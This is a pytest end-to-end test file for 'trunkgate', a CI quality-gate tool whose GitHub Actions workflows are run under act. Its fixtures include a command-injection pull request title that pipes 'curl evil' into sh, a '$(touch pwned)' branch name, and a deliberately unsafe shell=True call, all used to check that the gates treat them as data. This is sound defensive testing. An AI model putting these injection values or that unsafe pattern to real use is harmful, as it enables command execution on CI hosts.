"""trunkgate's actions and workflows, run by a real Actions runner (act, host executor, offline).

A scratch target repository adopts trunkgate the way a user would: it copies a starter
workflow from workflows/ into .github/workflows/ and nothing else (its policy is a
[tool.trunkgate] table in pyproject.toml). The starter calls the reusable workflow at the
release tag, which act serves from a snapshot of this checkout (tests/support/gha.py), and
that workflow runs the composite actions of the same tag, which install the engine from
their own ref. Pull requests and pushes are replayed with event payloads; the tests read
the jobs' verdicts, outputs, annotations and step summaries from act's JSON events.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.support.act import ActRun
from tests.support.gha import (
    VERSION,
    Target,
    needs_act,
    run_workflow,
    runner_python,
    runner_python_template,
    step_summary,
    trunkgate_ref,
    wheelhouse,
)
from tests.support.osv_server import OSVServer

pytestmark = [pytest.mark.e2e, needs_act]

# Fixtures come from tests.support.gha; naming them here makes pytest see them.
__all__ = ["runner_python", "runner_python_template", "trunkgate_ref", "wheelhouse"]

OSV_DATA = Path(__file__).resolve().parent / "data" / "osv"
WORKFLOW = "trunkgate quality gates"
# The gates of the Gates job (`trunkgate run`), each with a `<gate>-passed` output.
ENGINE_GATES = (
    "branch",
    "commits",
    "changelog",
    "changelog-updated",
    "lint",
    "security",
    "audit",
    "version",
)
JOBS = ("Gates", "Tests and coverage", "Summary")

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "calc"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = []

[tool.hatch.build.targets.wheel]
packages = ["src/calc"]

[tool.trunkgate]
trunk = "main"
{extra}"""

CALC = '''\
"""A tiny calculator."""


def add(a: int, b: int) -> int:
    return a + b
'''
SUB = """

def sub(a: int, b: int) -> int:
    return a - b
"""
TESTS = """\
from calc import add


def test_add():
    assert add(2, 3) == 5
"""
SUB_TEST = """

def test_sub():
    from calc import sub

    assert sub(5, 3) == 2
"""

CHANGELOG = """\
# Changelog

## [Unreleased]
{unreleased}
## [0.1.0] - 2026-01-02

### Added

- The calculator.

[unreleased]: https://github.com/example/target/compare/v0.1.0...HEAD
[0.1.0]: https://github.com/example/target/releases/tag/v0.1.0
"""
SUB_ENTRY = "\n### Added\n\n- Subtraction.\n"

# A change that every gate refuses: an unused import (lint), a shell command built from
# input (bandit B602, high), eight new lines no test runs (coverage), no changelog entry.
BAD_CALC = '''\
"""A tiny calculator."""

import os
import subprocess


def add(a: int, b: int) -> int:
    return a + b


def run(command: str) -> int:
    return subprocess.call(command, shell=True)


def describe(value: int) -> str:
    if value < 0:
        return "negative"
    if value == 0:
        return "zero"
    return "positive"
'''

BROKEN_TEST = """

def test_broken():
    assert add(1, 1) == 3
"""

HOSTILE_TITLE = '"; curl evil | sh; echo "'
HOSTILE_BRANCH = "$(touch pwned)"


def project(extra_policy: str = "") -> dict[str, str | None]:
    return {
        "pyproject.toml": PYPROJECT.format(extra=extra_policy),
        "src/calc/__init__.py": CALC,
        "tests/test_calc.py": TESTS,
        "CHANGELOG.md": CHANGELOG.format(unreleased=""),
        ".gitignore": ".coverage\n__pycache__/\n*.egg-info/\n",
    }


def new_target(tmp_path: Path, starter: str = "quality-gates.yml", **policy: str) -> Target:
    """A target on main with the calculator and ONLY the starter workflow added."""
    target = Target(tmp_path / "target")
    extra = "".join(f"{key} = {value}\n" for key, value in policy.items())
    target.adopt(starter)
    target.commit("feat: add the calculator", project(extra))
    return target


def job_key(name: str) -> str:
    """act's name for a job of the reusable workflow that the starter's job `trunkgate` calls."""
    return f"trunkgate/{WORKFLOW}/{name}"


def check_jobs(run: ActRun, expected: dict[str, str]) -> None:
    results = run.job_results()
    got = {name: results.get(job_key(name), "(no result)") for name in expected}
    assert got == expected, run.describe()


def annotations_of(run: ActRun, job: str) -> list[dict[str, str]]:
    return [a for a in run.annotations() if a["job"] == job_key(job)]


def find_files(root: Path, name: str) -> list[Path]:
    return [Path(folder) / name for folder, _, files in os.walk(root) if name in files]


# --------------------------------------------------------------------------- quality gates


def test_starter_workflow_passes_a_good_pull_request(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    target = new_target(tmp_path)
    target.branch("feature/subtraction")
    target.commit(
        "feat: add subtraction",
        {
            "src/calc/__init__.py": CALC + SUB,
            "tests/test_calc.py": TESTS + SUB_TEST,
            "CHANGELOG.md": CHANGELOG.format(unreleased=SUB_ENTRY),
        },
    )
    payload = target.pull_request(title="feat: add subtraction", head_ref="feature/subtraction")

    started = time.monotonic()
    run = run_workflow(
        target,
        "pull_request",
        ".github/workflows/quality-gates.yml",
        home=tmp_path / "home",
        payload=payload,
        trunkgate_ref=trunkgate_ref,
        wheelhouse=wheelhouse,
        runner_python=runner_python,
    )
    print(f"act run: {time.monotonic() - started:.1f}s")

    assert run.returncode == 0, run.describe()
    check_jobs(run, dict.fromkeys(JOBS, "success"))
    # Three jobs in all: the caller's one job expands into the called workflow's three.
    assert set(run.job_results()) == set(map(job_key, JOBS)), run.describe()
    assert run.annotations("error") == [], run.describe()
    gates = run.outputs(job=job_key("Gates"), step="gate")
    for gate in ENGINE_GATES:
        assert gates[f"{gate}-passed"] == "true", (gate, gates)
    assert gates["failed"] == "", gates
    assert gates["commits-commits"] == "1", gates
    coverage = run.outputs(job=job_key("Tests and coverage"), step="gate")
    assert coverage["passed"] == "true"
    assert coverage["coverage"] == "100.0"

    summary = step_summary(run, "/Summary")
    assert summary.startswith("## trunkgate: ✅ every gate passed\n"), summary
    assert "| Gates | ✅ passed | - |" in summary
    assert "| Tests and coverage | ✅ passed | 100.0 % total, 100.0 % of new lines |" in summary
    assert run.outputs(job=job_key("Summary"), step="verdict") == {
        "passed": "true",
        "error": "false",
    }


def test_starter_workflow_fails_a_bad_pull_request_and_treats_hostile_names_as_data(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    target = new_target(tmp_path)
    target.branch("feature/x")
    target.commit(
        "added stuff",
        {"src/calc/__init__.py": BAD_CALC, "tests/test_calc.py": TESTS + BROKEN_TEST},
    )
    payload = target.pull_request(title=HOSTILE_TITLE, head_ref=HOSTILE_BRANCH)
    # A `curl` first on PATH that leaves a mark if anything ever runs it.
    shims = tmp_path / "shims"
    shims.mkdir()
    marker = tmp_path / "curl-ran"
    curl = shims / "curl"
    curl.write_text(f"#!/bin/sh\ntouch '{marker}'\n", encoding="utf-8")
    curl.chmod(curl.stat().st_mode | stat.S_IXUSR)

    run = run_workflow(
        target,
        "pull_request",
        ".github/workflows/quality-gates.yml",
        home=tmp_path / "home",
        payload=payload,
        trunkgate_ref=trunkgate_ref,
        wheelhouse=wheelhouse,
        runner_python=runner_python,
        env={"PATH": f"{shims}{os.pathsep}{os.environ.get('PATH', os.defpath)}"},
    )

    assert run.returncode == 1, run.describe()
    check_jobs(run, dict.fromkeys(JOBS, "failure"))
    gates = run.outputs(job=job_key("Gates"), step="gate")
    assert gates["passed"] == "false", gates
    for gate in ("branch", "commits", "changelog-updated", "lint", "security"):
        assert gates[f"{gate}-passed"] == "false", (gate, gates)
        assert int(gates[f"{gate}-findings"]) >= 1, (gate, gates)
    assert gates["failed"] == "branch,commits,changelog-updated,lint,security", gates

    # The hostile names reached the gates as data, verbatim, and nothing ran them.
    gate_notes = annotations_of(run, "Gates")
    branch_notes = [a for a in gate_notes if a["title"].startswith("trunkgate branch")]
    assert any(HOSTILE_BRANCH in a["message"] for a in branch_notes), branch_notes
    title_notes = [a for a in gate_notes if a["title"].startswith("trunkgate commits")]
    assert any(HOSTILE_TITLE in a["message"] for a in title_notes), title_notes
    assert any("added stuff" in a["message"] for a in title_notes), title_notes
    assert not marker.exists(), "curl ran"
    for root in (tmp_path, Path.cwd()):
        assert find_files(root, "pwned") == []

    lint_notes = [a for a in gate_notes if a["title"].startswith("trunkgate lint")]
    assert {(a["file"], a["line"], a["title"]) for a in lint_notes} >= {
        ("src/calc/__init__.py", "3", "trunkgate lint: F401")
    }, lint_notes
    security_notes = [a for a in gate_notes if a["title"].startswith("trunkgate security")]
    assert any(
        a.get("file") == "src/calc/__init__.py" and a.get("line") == "12" and "B602" in a["title"]
        for a in security_notes
    ), security_notes
    coverage = run.outputs(job=job_key("Tests and coverage"), step="gate")
    assert float(coverage["coverage"]) < 90, coverage
    assert float(coverage["diff-coverage"]) < 90, coverage

    summary = step_summary(run, "/Summary")
    assert summary.startswith("## trunkgate: ❌ failed (gates coverage)\n"), summary
    assert (
        "| Gates | ❌ failed | failed: branch, commits, changelog-updated, lint, security |"
        in summary
    ), summary
    assert "| Tests and coverage | ❌ failed | tests failed; " in summary, summary
    [verdict] = [a for a in annotations_of(run, "Summary") if a["level"] == "error"]
    assert verdict["message"].startswith("quality gates failed: gates coverage (branch,commits")


def test_caller_overrides_thresholds_skips_gates_and_reads_the_outputs(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    """A push to main. The caller passes inputs (a lower fail-under than the policy's 90,
    lint skipped) and reads the reusable workflow's outputs in a job of its own."""
    target = Target(tmp_path / "target")
    report_job = """\
    with:
      fail-under: "70"
      skip: lint
  report:
    needs: gates
    if: always()
    runs-on: ubuntu-latest
    steps:
      - env:
          PASSED: ${{ needs.gates.outputs.passed }}
          COVERAGE_PASSED: ${{ needs.gates.outputs.coverage-passed }}
          COVERAGE: ${{ needs.gates.outputs.coverage }}
          LINT_PASSED: ${{ needs.gates.outputs.lint-passed }}
          BRANCH_PASSED: ${{ needs.gates.outputs.branch-passed }}
        run: |
          echo "OUTPUTS passed=$PASSED coverage-passed=$COVERAGE_PASSED coverage=$COVERAGE" \\
            "lint-passed=$LINT_PASSED branch-passed=$BRANCH_PASSED"
"""
    target.adopt("quality-gates.yml", edit=lambda text: text + report_job)
    # `sub` is never tested: 6 of 7 statements run (tests included), below the policy's 90.
    before = target.commit(
        "feat: add the calculator", {**project(), "src/calc/__init__.py": CALC + SUB}
    )
    target.commit(
        "docs: explain the calculator",
        {"README.md": "# calc\n\nAdds numbers.\n", "src/calc/__init__.py": CALC + SUB + "\n# ok\n"},
    )

    run = run_workflow(
        target,
        "push",
        ".github/workflows/quality-gates.yml",
        home=tmp_path / "home",
        payload=target.push(before),
        trunkgate_ref=trunkgate_ref,
        wheelhouse=wheelhouse,
        runner_python=runner_python,
    )

    assert run.returncode == 0, run.describe()
    check_jobs(run, {"Summary": "success", "Tests and coverage": "success", "Gates": "success"})
    coverage = run.outputs(job=job_key("Tests and coverage"), step="gate")
    assert coverage["coverage"] == "85.71", coverage
    assert (
        "OUTPUTS passed=true coverage-passed=true coverage=85.71 lint-passed= branch-passed=true"
        in run.log()
    ), run.describe()


def test_a_gate_that_cannot_decide_is_an_error_not_a_failure(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    target = Target(tmp_path / "target")
    target.adopt("quality-gates.yml", edit=lambda text: text + "    with:\n      skip: lint,typo\n")
    target.commit("feat: add the calculator", project())

    run = run_workflow(
        target,
        "push",
        ".github/workflows/quality-gates.yml",
        home=tmp_path / "home",
        payload=target.push(target.sha()),
        trunkgate_ref=trunkgate_ref,
        wheelhouse=wheelhouse,
        runner_python=runner_python,
    )

    assert run.returncode == 1, run.describe()
    check_jobs(run, {"Gates": "failure", "Tests and coverage": "success", "Summary": "failure"})
    notes = [a for a in annotations_of(run, "Gates") if a["level"] == "error"]
    assert any("unknown gate 'typo'" in a["message"] for a in notes), notes
    assert run.outputs(job=job_key("Gates"), step="gate")["error"] == "true"
    summary = step_summary(run, "/Summary")
    assert summary.startswith("## trunkgate: ⚠️ could not decide (gates)\n"), summary
    assert "| Gates | ⚠️ error: could not decide | - |" in summary, summary
    [verdict] = [a for a in annotations_of(run, "Summary") if a["level"] == "error"]
    assert "could not decide (bad input or configuration): gates" in verdict["message"]
    assert run.outputs(job=job_key("Summary"), step="verdict") == {
        "passed": "false",
        "error": "true",
    }


# --------------------------------------------------------------------------- a monorepo


def init_each_package(target: Target, *names: str) -> None:
    """`trunkgate init` in each package's folder, packages/<name>, as a team would run it."""
    for name in names:
        proc = subprocess.run(
            [str(Path(sys.executable).parent / "trunkgate"), "init"],
            cwd=target.path / "packages" / name,
            env=target.env,
            capture_output=True,
            text=True,
            check=False,
        )
        assert proc.returncode == 0, proc.stdout + proc.stderr


def test_a_monorepo_set_up_by_init_gets_one_verdict_a_package(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    """Two packages, each set up by `trunkgate init` in its folder: the monorepo starter init
    wrote at the top runs the gates once a package; a bad change to one fails that package
    only, and its annotations name files from the repository root."""
    target = Target(tmp_path / "target")
    for name in ("calc", "other"):
        # Each package its own module: act runs both jobs on this one host and Python.
        files = {
            f"packages/{name}/{rel.replace('calc', name)}": text.replace("calc", name)
            for rel, text in project().items()
        }
        target.write(files)
    target.commit("feat: two packages")
    init_each_package(target, "calc", "other")
    workflow = ".github/workflows/monorepo.yml"
    assert "package: [packages/calc, packages/other]" in (target.path / workflow).read_text()
    target.commit("ci: adopt trunkgate")
    target.branch("feature/bad")
    target.commit("feat: describe numbers", {"packages/calc/src/calc/__init__.py": BAD_CALC})
    run = run_workflow(
        target,
        "pull_request",
        workflow,
        home=tmp_path / "home",
        payload=target.pull_request(title="feat: describe numbers", head_ref="feature/bad"),
        trunkgate_ref=trunkgate_ref,
        wheelhouse=wheelhouse,
        runner_python=runner_python,
    )
    assert run.returncode == 1, run.describe()
    results = run.job_results()
    summaries = {job: result for job, result in results.items() if job.endswith("/Summary")}
    assert sorted(summaries.values()) == ["failure", "success"], run.describe()
    failed = next(job for job, result in summaries.items() if result == "failure")
    assert "packages/calc" in failed, summaries
    files = {a.get("file") for a in run.annotations() if a.get("file")}
    assert "packages/calc/src/calc/__init__.py" in files, files
    assert not any(f.startswith("src/") or "packages/other" in f for f in files), files


# --------------------------------------------------------------------------- dependency audit


def test_dependency_audit_starter_fails_on_a_vulnerable_dependency(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    with OSVServer(OSV_DATA) as osv:
        target = new_target(
            tmp_path,
            starter="dependency-audit.yml",
            **{"audit.osv-url": f'"{osv.url}"'},
        )
        target.commit(
            "build: pin requests",
            {"requirements.txt": "requests==2.25.0\n", "src/calc/__init__.py": BAD_CALC},
        )
        run = run_workflow(
            target,
            "workflow_dispatch",
            ".github/workflows/dependency-audit.yml",
            home=tmp_path / "home",
            payload={"inputs": {}, "ref": "refs/heads/main"},
            trunkgate_ref=trunkgate_ref,
            wheelhouse=wheelhouse,
            runner_python=runner_python,
        )
        asked = osv.requests

    assert run.returncode == 1, run.describe()
    jobs = run.job_results()
    prefix = "trunkgate/trunkgate dependency audit/"
    assert {k: v for k, v in jobs.items() if k.startswith(prefix)} == {
        f"{prefix}Dependency audit": "failure",
        f"{prefix}Security scan": "failure",
        f"{prefix}Summary": "failure",
    }, run.describe()
    assert any(q.get("package", {}).get("name") == "requests" for q in asked), asked
    audit_notes = [a for a in run.annotations() if a["job"] == f"{prefix}Dependency audit"]
    assert any("PYSEC-2023-74" in a["message"] for a in audit_notes), audit_notes
    outputs = run.outputs(job=f"{prefix}Dependency audit", step="gate")
    assert outputs["passed"] == "false"
    assert int(outputs["vulnerabilities"]) >= 1
    summary = step_summary(run, "/Summary")
    assert summary.startswith("## trunkgate dependency audit: ❌ something to fix"), summary
    assert "| Known vulnerabilities (pip-audit) | ❌ failed |" in summary
    assert "| Security scan of the whole tree (bandit) | ❌ failed |" in summary


def test_the_monorepo_audit_set_up_by_init_audits_each_package(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    """Two packages set up by `trunkgate init`; one pins a vulnerable requests. The weekly
    monorepo audit init wrote fails that package only."""
    with OSVServer(OSV_DATA) as osv:
        target = Target(tmp_path / "target")
        for name in ("calc", "other"):
            files = {
                f"packages/{name}/{rel.replace('calc', name)}": text.replace("calc", name)
                for rel, text in project(f'audit.osv-url = "{osv.url}"\n').items()
            }
            target.write(files)
        target.write({"packages/calc/requirements.txt": "requests==2.25.0\n"})
        target.commit("feat: two packages")
        init_each_package(target, "calc", "other")
        target.commit("ci: adopt trunkgate")
        run = run_workflow(
            target,
            "workflow_dispatch",
            ".github/workflows/monorepo-audit.yml",
            home=tmp_path / "home",
            payload={"inputs": {}, "ref": "refs/heads/main"},
            trunkgate_ref=trunkgate_ref,
            wheelhouse=wheelhouse,
            runner_python=runner_python,
        )
        asked = osv.requests

    assert run.returncode == 1, run.describe()
    results = run.job_results()
    audits = {job: r for job, r in results.items() if job.endswith("/Dependency audit")}
    assert len(audits) == 2, run.describe()
    assert {("packages/calc" in job, r) for job, r in audits.items()} == {
        (True, "failure"),
        (False, "success"),
    }, audits
    assert any(q.get("package", {}).get("name") == "requests" for q in asked), asked
    notes = [a for a in run.annotations() if "PYSEC-2023-74" in a["message"]]
    assert notes, run.describe()
    assert all("packages/calc" in a["job"] for a in notes), notes


# --------------------------------------------------------------------------- the actions


ACTIONS_WORKFLOW = """\
name: actions
on: push
permissions:
  contents: read
jobs:
  gates:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@fbc6f3992d24b796d5a048ff273f7fcc4a7b6c09 # v5.1.0
        with:
          persist-credentials: false
          fetch-depth: 0
      - id: setup_py
        uses: trunkgate/trunkgate/actions/setup@v{version}
        with:
          python-version: "3.11"
      - id: setup_again
        uses: trunkgate/trunkgate/actions/setup@v{version}
      - id: gates
        uses: trunkgate/trunkgate/actions/gates@v{version}
        with:
          skip: coverage,tests # the job installs no project to test
          sarif: trunkgate.sarif
      - id: gates_base
        uses: trunkgate/trunkgate/actions/gates@v{version}
        with:
          gates: changelog,changelog-updated,lint
          base: HEAD~1
      - id: version_ok
        uses: trunkgate/trunkgate/actions/version@v{version}
      - id: version_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/version@v{version}
        with:
          ref: v9.9.9
      - id: branch_ok
        uses: trunkgate/trunkgate/actions/branch-name@v{version}
        with:
          branch: feature/fine
      - id: branch_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/branch-name@v{version}
        with:
          branch: Whatever-I-Like
      - id: commits_error
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/commits@v{version}
        with:
          max-subject-length: "lots"
      - id: commits_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/commits@v{version}
        with:
          range: HEAD~1..HEAD
          types: feat
      - id: changelog_ok
        uses: trunkgate/trunkgate/actions/changelog@v{version}
        with:
          check-updated: "false"
      - id: changelog_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/changelog@v{version}
        with:
          working-directory: bad
      - id: lint_ok
        uses: trunkgate/trunkgate/actions/lint@v{version}
      - id: lint_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/lint@v{version}
        with:
          all: "true"
          working-directory: bad
      - id: security_ok
        uses: trunkgate/trunkgate/actions/security@v{version}
      - id: security_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/security@v{version}
        with:
          all: "true"
          working-directory: bad
      - id: audit_ok
        uses: trunkgate/trunkgate/actions/audit@v{version}
        with:
          all: "true"
      - id: audit_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/audit@v{version}
        with:
          all: "true"
          working-directory: bad
      - id: secrets_ok
        uses: trunkgate/trunkgate/actions/secrets@v{version}
      - id: secrets_bad
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/secrets@v{version}
        with:
          all: "true"
          working-directory: bad
      - id: outside
        continue-on-error: true
        uses: trunkgate/trunkgate/actions/lint@v{version}
        with:
          working-directory: ../..
      - name: Show the outcomes
        env:
          OUTCOMES: >-
            branch_ok=${{{{ steps.branch_ok.outcome }}}}
            branch_bad=${{{{ steps.branch_bad.outcome }}}}
            commits_error=${{{{ steps.commits_error.outcome }}}}
            commits_bad=${{{{ steps.commits_bad.outcome }}}}
            changelog_ok=${{{{ steps.changelog_ok.outcome }}}}
            changelog_bad=${{{{ steps.changelog_bad.outcome }}}}
            lint_ok=${{{{ steps.lint_ok.outcome }}}}
            lint_bad=${{{{ steps.lint_bad.outcome }}}}
            security_ok=${{{{ steps.security_ok.outcome }}}}
            security_bad=${{{{ steps.security_bad.outcome }}}}
            audit_ok=${{{{ steps.audit_ok.outcome }}}}
            audit_bad=${{{{ steps.audit_bad.outcome }}}}
            secrets_ok=${{{{ steps.secrets_ok.outcome }}}}
            secrets_bad=${{{{ steps.secrets_bad.outcome }}}}
            outside=${{{{ steps.outside.outcome }}}}
            gates_base=${{{{ steps.gates_base.outcome }}}}
            version_ok=${{{{ steps.version_ok.outcome }}}}
            version_bad=${{{{ steps.version_bad.outcome }}}}
        run: echo "OUTCOMES $OUTCOMES"
"""

FAKE_KEY = "AKIA" + "IOSFODNN7EXAMPLE"  # AWS's documented example key id, put together here
BAD_PROJECT = {
    "bad/pyproject.toml": '[project]\nname = "bad"\nversion = "0.1.0"\n\n[tool.trunkgate]\n'
    'audit.osv-url = "{osv}"\n',
    "bad/src/bad.py": BAD_CALC,
    "bad/requirements.txt": "requests==2.25.0\n",
    "bad/CHANGELOG.md": "# Changes\n\n## Unreleased\n\n- stuff\n",
    "bad/deploy.env": f"AWS_ACCESS_KEY_ID={FAKE_KEY}\n",
}


def test_each_action_passes_and_fails_on_its_own(
    tmp_path: Path, trunkgate_ref: Path, wheelhouse: Path, runner_python: Path
) -> None:
    """Every gate action used directly in a job of the caller's own: a passing and a failing
    case each, a bad input (exit 2), a working directory outside the workspace, the setup
    action's Python choice and its reuse of the environment within a job."""
    with OSVServer(OSV_DATA) as osv:
        target = Target(tmp_path / "target")
        target.write({".github/workflows/actions.yml": ACTIONS_WORKFLOW.format(version=VERSION)})
        files = {
            **project(f'audit.osv-url = "{osv.url}"\n'),
            "requirements.txt": "requests==2.32.3\n",
            **{k: v.replace("{osv}", osv.url) for k, v in BAD_PROJECT.items()},
        }
        before = target.commit("feat: add the calculator", files)
        target.commit(
            "fix: round sums",
            {
                "src/calc/__init__.py": CALC.replace("tiny calculator", "rounding calculator"),
                "CHANGELOG.md": CHANGELOG.format(unreleased="\n### Fixed\n\n- Rounded sums.\n"),
            },
        )

        run = run_workflow(
            target,
            "push",
            ".github/workflows/actions.yml",
            home=tmp_path / "home",
            payload=target.push(before),
            trunkgate_ref=trunkgate_ref,
            wheelhouse=wheelhouse,
            runner_python=runner_python,
        )

    assert run.returncode == 0, run.describe()
    job = "actions/gates"
    outcomes = dict(
        item.split("=", 1)
        for line in run.log().splitlines()
        if line.startswith("OUTCOMES ")
        for item in line.split()[1:]
    )
    assert outcomes == {
        "branch_ok": "success",
        "branch_bad": "failure",
        "commits_error": "failure",
        "commits_bad": "failure",
        "changelog_ok": "success",
        "changelog_bad": "failure",
        "lint_ok": "success",
        "lint_bad": "failure",
        "security_ok": "success",
        "security_bad": "failure",
        "audit_ok": "success",
        "audit_bad": "failure",
        "secrets_ok": "success",
        "secrets_bad": "failure",
        "outside": "failure",
        "gates_base": "success",
        "version_ok": "success",
        "version_bad": "failure",
    }, run.describe()

    def out(step: str) -> dict[str, str]:
        return run.outputs(job=job, step=step)

    # setup: python-version asked for -> actions/setup-python (the stand-in), then the same
    # interpreter found on the runner -> the environment of the step before is reused.
    assert out("setup_py")["version"] == VERSION
    assert out("setup_py")["cache-hit"] == "false"
    assert out("setup_again")["cache-hit"] == "true"
    assert out("setup_again")["trunkgate"] == out("setup_py")["trunkgate"]
    assert out("setup_py")["trunkgate"].endswith("/bin/trunkgate")

    gates = out("gates")
    assert gates["passed"] == "true", gates
    for gate in ("branch", "commits", "changelog", "lint", "security", "audit"):
        assert gates[f"{gate}-passed"] == "true", (gate, gates)
    assert "coverage-passed" not in gates or gates["coverage-passed"] == ""

    for step, figures in {
        "branch_bad": {},
        "commits_bad": {"commits": "1"},
        "changelog_bad": {},
        "lint_bad": {"violations": "1"},
        "security_bad": {"high": "1"},
        "audit_bad": {"vulnerabilities": "1"},
        "secrets_bad": {"secrets": "1"},
    }.items():
        got = out(step)
        assert got["passed"] == "false", (step, got)
        assert got["error"] == "false", (step, got)
        assert int(got["findings"]) >= 1, (step, got)
        assert {k: got[k] for k in figures} == figures, (step, got)
    # base: reaches every gate of the run, the changelog's update check included.
    assert out("gates_base")["changelog-updated-passed"] == "true", out("gates_base")
    assert out("gates_base")["error"] == "false"
    assert out("version_bad")["passed"] == "false"
    assert out("version_bad")["error"] == "false"
    assert out("changelog_ok")["updated-passed"] == ""
    assert out("changelog_ok")["format-passed"] == "true"

    # A bad input is an error (exit 2): one clear annotation, outputs that say so.
    assert out("commits_error")["passed"] == "false"
    assert out("commits_error")["error"] == "true"
    errors = [a for a in run.annotations("error") if "max-subject-length" in a["message"]]
    assert errors, run.annotations("error")
    assert "### trunkgate commits: ⚠️ error" in "".join(run.summaries())
    outside = [a for a in run.annotations("error") if "leads outside the workspace" in a["message"]]
    assert outside, run.annotations("error")
    # The secrets gate annotated the fake key's line, and its value is nowhere in the run.
    keys = [a for a in run.annotations("error") if "AWSKeyDetector" in a.get("title", "")]
    assert keys, run.annotations("error")
    assert FAKE_KEY not in run.log() + "".join(run.summaries())
